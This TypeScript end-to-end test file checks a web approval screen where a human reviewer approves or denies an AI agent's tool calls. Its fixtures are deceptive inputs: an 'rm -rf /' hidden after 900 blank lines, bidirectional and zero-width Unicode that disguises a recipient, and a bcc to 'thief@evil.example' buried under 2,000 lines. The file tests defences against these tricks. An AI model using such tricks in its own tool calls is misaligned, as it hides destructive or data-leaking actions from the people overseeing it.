import { writeFileSync } from 'node:fs';

import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import { askByHand } from './ask-by-hand.ts';
import type { WatchedPage } from './browser.ts';
import { ConsoleStage } from './console-stage.ts';
import type { RunningGuardian } from './guardian-process.ts';

const stage = new ConsoleStage('seen');
writeFileSync(
  stage.module,
  `export default { name: 'shop', hooks: { preToolCall: ({ call }) => ({ decision: 'ask', reason: 'May it run ' + call.name + '?' }) } };`,
);

let guardian: RunningGuardian;
let watched: WatchedPage;
let page: Page;

async function open(tool: string): Promise<void> {
  await page.getByRole('link', { name: `May it run ${tool}?` }).click();
  await page.getByRole('heading', { name: `May it run ${tool}?` }).waitFor();
}

/** How many asks wait by now. */
function waiting(): Promise<number> {
  return page.evaluate(async () => {
    const response = await fetch('/api/approvals?state=waiting&limit=1');
    return ((await response.json()) as { readonly waiting: number }).waiting;
  });
}

describe.skipIf(stage.chromium === undefined)('a reviewer', () => {
  beforeAll(async () => {
    ({ guardian, watched, page } = await stage.openSignedIn());
  });
  afterAll(() => stage.close());
  beforeEach(() => page.goto(new URL('/approvals', guardian.url).href));

  test('sees what turns a text around, what has no width, and how many empty lines there are', async () => {
    const command = `ls${'\n'.repeat(900)}rm -rf /`;
    const deep = { to: '\u202Emoc.knab@eciLA' };
    await askByHand(guardian.url, 'send', { to: '\u202Emoc', 'to\u200B': '100', command, deep });
    await open('send');
    const shown = await page.locator('.arguments').innerText();
    expect(shown).toContain('⟨U+202E⟩moc');
    expect(shown).toContain('to⟨U+200B⟩');
    expect(shown).toContain('"100"');
    expect(shown).toContain('ls\n⟨899 empty lines⟩\nrm -rf /');
    expect(shown).toContain(String.raw`"to": "\u202emoc.knab@eciLA"`);
    await page.getByRole('button', { name: 'Change arguments' }).click();
    const editor = page.getByLabel('Arguments, as JSON');
    expect(await editor.inputValue()).toContain(String.raw`"\u202emoc"`);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('button', { name: 'Deny' }).click();
    await expect.poll(waiting).toBe(0);
  });

  test('says yes only once the end of the call was on the screen', async () => {
    const body = Array.from({ length: 2000 }, (_, at) => `line ${at}`).join('\n');
    await askByHand(guardian.url, 'mail', { body, bcc: 'thief@evil.example' });
    await open('mail');
    await page.getByText('The call goes on below.').waitFor();
    const approve = page.getByRole('button', { name: 'Approve' });
    await page.getByRole('button', { name: 'Deny', disabled: false }).waitFor();
    expect(await approve.isDisabled()).toBe(true);
    await page.keyboard.press('y');
    await page.getByText('thief@evil.example').waitFor();
    expect(await waiting()).toBe(1);
    await approve.click();
    await expect.poll(waiting).toBe(0);
  });

  test('whose clock is an hour fast sees how much time is really left', async () => {
    await askByHand(guardian.url, 'clock', {});
    const fast = await page.context().newPage();
    await fast.addInitScript('{ const now = Date.now; Date.now = () => now() + 3_600_000; }');
    await fast.goto(new URL('/approvals', guardian.url).href);
    const row = fast.getByRole('link', { name: 'May it run clock?' });
    await row.getByText(/^\d+ (?:s|min) left$/).waitFor();
    await row.getByText(/^(?:just now|\d+ s ago)$/).waitFor();
    await fast.getByRole('button', { name: 'Deny' }).click();
    await expect.poll(waiting).toBe(0);
    await fast.close();
  });

  test('is told that a yes does not count while a tool is stopped', async () => {
    await askByHand(guardian.url, 'halted', {});
    await page.evaluate(async () => {
      const { csrf } = (await (await fetch('/api/me')).json()) as { readonly csrf: string };
      const headers = { 'content-type': 'application/json', 'x-csrf': csrf };
      const body = JSON.stringify({ kind: 'tool', value: 'halted', why: 'under attack' });
      await fetch('/api/switches', { method: 'POST', headers, body });
    });
    await open('halted');
    const notice = page.getByRole('status').filter({ hasText: 'A yes does not count now.' });
    expect(await notice.innerText()).toContain('This tool is stopped by local admin: under attack');
    await page.getByRole('button', { name: 'Deny' }).click();
    await expect.poll(waiting).toBe(0);
  });

  test('answers one ask by a key that is held, and one by a double click', async () => {
    const tools = ['first', 'second', 'third', 'fourth'];
    await Promise.all(tools.map((tool, at) => askByHand(guardian.url, tool, { at })));
    await page.reload();
    await page.getByRole('button', { name: 'Approve', disabled: false }).waitFor();
    // Each `down` after the first is a repetition of the key, as when it is held.
    for (let times = 0; times < 40; times++) {
      await page.keyboard.down('y');
      await page.waitForTimeout(50);
    }
    await page.keyboard.up('y');
    expect(await waiting()).toBe(3);
    await page.getByRole('button', { name: 'Approve' }).dblclick({ delay: 150 });
    await page.getByRole('button', { name: 'Approve', disabled: false }).waitFor();
    expect(await waiting()).toBe(2);
    expect(watched.complaints).toEqual([]);
  });
});
